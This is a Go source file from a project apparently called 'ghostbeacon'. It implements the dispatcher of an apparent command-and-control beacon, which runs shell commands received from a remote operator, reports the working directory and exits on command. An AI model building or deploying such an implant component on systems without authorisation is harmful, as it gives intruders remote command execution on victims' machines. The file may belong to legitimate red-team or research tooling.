package dispatch

import (
	"fmt"
	"os"
	"time"
	"unicode/utf8"

	"ghostbeacon/internal/beacon/wire"
	"ghostbeacon/pkg/shared"
)

// MaxOutputSize bounds captured command output. Longer output is silently
// truncated, never an error.
const MaxOutputSize = 16384

// Command verbs understood by the dispatcher.
const (
	VerbShell = "shell"
	VerbPwd   = "pwd"
	VerbExit  = "exit"
)

// ProcessRunner launches one command line and returns its combined output.
// A non-nil error means the process failed to launch or exited non-zero.
type ProcessRunner interface {
	Run(command string) ([]byte, error)
}

// Dispatcher maps received commands to actions and produces results.
type Dispatcher struct {
	runner ProcessRunner
	now    func() time.Time
}

func New(runner ProcessRunner) *Dispatcher {
	return &Dispatcher{runner: runner, now: time.Now}
}

// Execute runs one command and reports whether the session should terminate.
// Execution failures are captured into the result, never returned: a failed
// command must not abort the cycle.
func (d *Dispatcher) Execute(cmd shared.Command) (shared.CommandResult, bool) {
	result := shared.CommandResult{
		CommandID: cmd.ID,
		Timestamp: wire.Timestamp(d.now()),
	}

	switch cmd.Command {
	case VerbShell:
		out, err := d.runner.Run(cmd.Args)
		if err != nil && len(out) == 0 {
			out = []byte(fmt.Sprintf("Error: %v", err))
		}
		result.Output = truncateOutput(out)
		result.Success = err == nil

	case VerbPwd:
		cwd, err := os.Getwd()
		if err != nil {
			result.Output = "Error getting current directory"
		} else {
			result.Output = cwd
			result.Success = true
		}

	case VerbExit:
		result.Output = "Beacon shutting down"
		result.Success = true
		return result, true

	default:
		result.Output = "Unknown command: " + cmd.Command
	}

	return result, false
}

// truncateOutput caps output at MaxOutputSize without leaving a partial
// multi-byte sequence at the cut.
func truncateOutput(b []byte) string {
	if len(b) <= MaxOutputSize {
		return string(b)
	}

	b = b[:MaxOutputSize]
	// A sequence split by the cut leaves at most UTFMax-1 dangling bytes.
	for i := 0; i < utf8.UTFMax-1 && len(b) > 0; i++ {
		r, size := utf8.DecodeLastRune(b)
		if r != utf8.RuneError || size > 1 {
			break
		}
		b = b[:len(b)-1]
	}
	return string(b)
}
